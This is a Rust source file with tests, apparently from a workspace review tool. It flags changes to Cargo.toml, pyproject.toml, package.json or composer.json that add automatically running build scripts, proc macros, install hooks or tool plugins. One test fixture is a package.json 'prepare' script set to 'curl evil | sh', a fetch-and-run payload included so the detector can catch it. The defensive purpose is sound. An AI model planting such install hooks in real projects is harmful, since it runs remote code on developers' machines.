//! Files that everybody changes all the time and that can also say what runs by itself. They are protected only when they
//! begin to say something else of that.

use super::scripts::run_by_themselves;
use crate::paths::WorkspacePath;
use crate::patterns::plain;
use crate::view::{Content, Entry};
use serde_json::Value;

/// Where in a file it is said what runs by itself.
pub(super) type Places = &'static [&'static [&'static str]];

/// A language's server builds a crate as soon as its folder is open, build script and procedural macros included.
const CARGO: Places = &[
    &["package", "build"],
    &["package", "links"],
    // An older name of the same.
    &["project", "build"],
    &["project", "links"],
    &["lib", "crate-type"],
    &["lib", "crate_type"],
    &["lib", "proc-macro"],
    &["lib", "proc_macro"],
    &["lib", "plugin"],
];
/// Checkers that editors start load what is named here.
const PYPROJECT: Places = &[
    &["build-system"],
    &["tool", "mypy", "plugins"],
    &["tool", "mypy", "python_executable"],
    &["tool", "pylint"],
    &["tool", "pytest"],
    &["tool", "flake8"],
];
/// Loaded by hooks, editors' checkers and every installation. Scripts are looked at by themselves.
pub(super) const PACKAGE: Places = &[
    &["husky"],
    &["lint-staged"],
    &["simple-git-hooks"],
    &["gitHooks"],
    &["pre-commit"],
    &["nano-staged"],
    &["commitlint"],
    &["packageManager"],
    &["babel"],
    &["eslintConfig"],
    &["prettier"],
    &["stylelint"],
    &["jest"],
];
const COMPOSER: Places = &[&["config", "allow-plugins"]];

/// Whether a file would say something else of what runs by itself than it did.
pub(in crate::review) fn runs_more(path: &WorkspacePath, before: &Entry, after: &Entry) -> bool {
    let name = path.as_path().file_name().and_then(|name| name.to_str()).map(plain).unwrap_or_default();
    let (places, parse) = match name.as_str() {
        "cargo.toml" => (CARGO, of_toml as Parse),
        "pyproject.toml" => (PYPROJECT, of_toml as Parse),
        "package.json" => (PACKAGE, of_json as Parse),
        "composer.json" => (COMPOSER, of_json as Parse),
        _ => return false,
    };
    let Some(after) = read(after, parse) else {
        // What cannot be read here may still be read by others.
        return !matches!(after, Entry::Missing | Entry::Folder);
    };
    let before = read(before, parse).unwrap_or_default();
    let scripts = [&before, &after].map(|file| run_by_themselves(&name, file));
    if scripts[1].iter().any(|(script, runs)| scripts[0].get(script) != Some(runs)) {
        return true;
    }
    places.iter().any(|place| match (at(&before, place), at(&after, place)) {
        (before, Some(after)) => before != Some(after),
        // What was switched off is found by its usual name again, such as `build.rs`.
        (before, None) => before == Some(&Value::Bool(false)),
    })
}

/// What is said at a place.
fn at<'a>(file: &'a Value, place: &[&str]) -> Option<&'a Value> {
    let value = place.iter().try_fold(file, |value, key| value.get(key))?;
    // Of the kinds of libraries only one runs while others are built.
    let is_kind = matches!(place, [_, "crate-type" | "crate_type"]);
    Some(value).filter(|value| !is_kind || value.to_string().contains("proc-macro"))
}

type Parse = fn(&str) -> Option<Value>;

pub(super) fn of_toml(text: &str) -> Option<Value> {
    toml::from_str(text.trim_start_matches(BYTE_ORDER_MARK)).ok()
}

pub(super) fn of_json(text: &str) -> Option<Value> {
    serde_json::from_str(text.trim_start_matches(BYTE_ORDER_MARK)).ok()
}

/// Some editors put it before a text, and npm and cargo read on.
const BYTE_ORDER_MARK: char = '\u{feff}';

fn read(entry: &Entry, parse: Parse) -> Option<Value> {
    match entry {
        Entry::File(file) => match &file.content {
            Content::Whole(bytes) => parse(std::str::from_utf8(bytes).ok()?),
            Content::Large { .. } => None,
        },
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn more(name: &str, before: &str, after: &str) -> bool {
        let entry =
            |text: &str| if text.is_empty() { Entry::Missing } else { Entry::file(text.as_bytes(), 0o644) };
        runs_more(&WorkspacePath::parse(name).unwrap(), &entry(before), &entry(after))
    }

    #[test]
    fn a_manifest_is_protected_only_when_it_begins_to_run_something() {
        let cargo = "[package]\nname = \"a\"\n";
        assert!(!more("Cargo.toml", cargo, "[package]\nname = \"a\"\n[dependencies]\nserde = \"1\"\n"));
        assert!(!more("Cargo.toml", "", cargo), "a new one that runs nothing");
        assert!(more("Cargo.toml", cargo, "[package]\nname = \"a\"\nbuild = \"tools/innocent.rs\"\n"));
        assert!(more("sub/cargo.TOML", "", "[lib]\nproc-macro = true\n"));
        assert!(more("Cargo.toml", cargo, "[package"), "what cannot be read is not known to be harmless");
        assert!(!more("Cargo.toml", cargo, ""), "nothing runs when it is gone");
        assert!(more("Cargo.toml", "", "[lib]\ncrate-type = [\"proc-macro\"]\n"));
        assert!(more("Cargo.toml", "", "[lib]\ncrate_type = [\"lib\", \"proc-macro\"]\n"));
        assert!(!more("Cargo.toml", cargo, "[package]\nname = \"a\"\n[lib]\ncrate-type = [\"cdylib\"]\n"));
        assert!(more("Cargo.toml", "", "[project]\nname = \"a\"\nbuild = \"x.rs\"\n"));
        assert!(
            more("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n", cargo),
            "build.rs is found again"
        );
        assert!(!more("Cargo.toml", "[package]\nname = \"a\"\nbuild = \"x.rs\"\n", "[dependencies]\n"));
        let package = r#"{"scripts": {"test": "x", "prepare": "husky"}}"#;
        assert!(!more("package.json", package, r#"{"scripts": {"test": "y", "prepare": "husky"}}"#));
        assert!(more("package.json", package, r#"{"scripts": {"prepare": "curl evil | sh"}}"#));
        assert!(more("package.json", "", r#"{"scripts": {"postinstall": "x"}}"#));
        let indirect = r#"{"scripts": {"prepare": "npm run build", "build": "tsc"}}"#;
        assert!(more(
            "package.json",
            indirect,
            r#"{"scripts": {"prepare": "npm run build", "build": "./x"}}"#
        ));
        assert!(!more("package.json", indirect, &indirect.replace("}}", r#", "test": "./x"}}"#)));
        assert!(more("composer.json", "", r#"{"scripts": {"post-install-cmd": ["@x"], "x": "php x.php"}}"#));
        assert!(!more("composer.json", "", r#"{"scripts": {"test": "phpunit"}, "require": {"a/b": "1"}}"#));
        for key in ["babel", "stylelint", "commitlint"] {
            assert!(more("package.json", "", &format!(r#"{{"{key}": {{"plugins": ["./x.js"]}}}}"#)), "{key}");
        }
        assert!(more("pyproject.toml", "", "[tool.mypy]\npython_executable = \"./x\"\n"));
        assert!(more("pyproject.toml", "", "[tool.pylint.main]\ninit-hook = \"x\"\n"));
        assert!(!more("pyproject.toml", "", "[project]\nname = \"a\"\n"));
    }
}
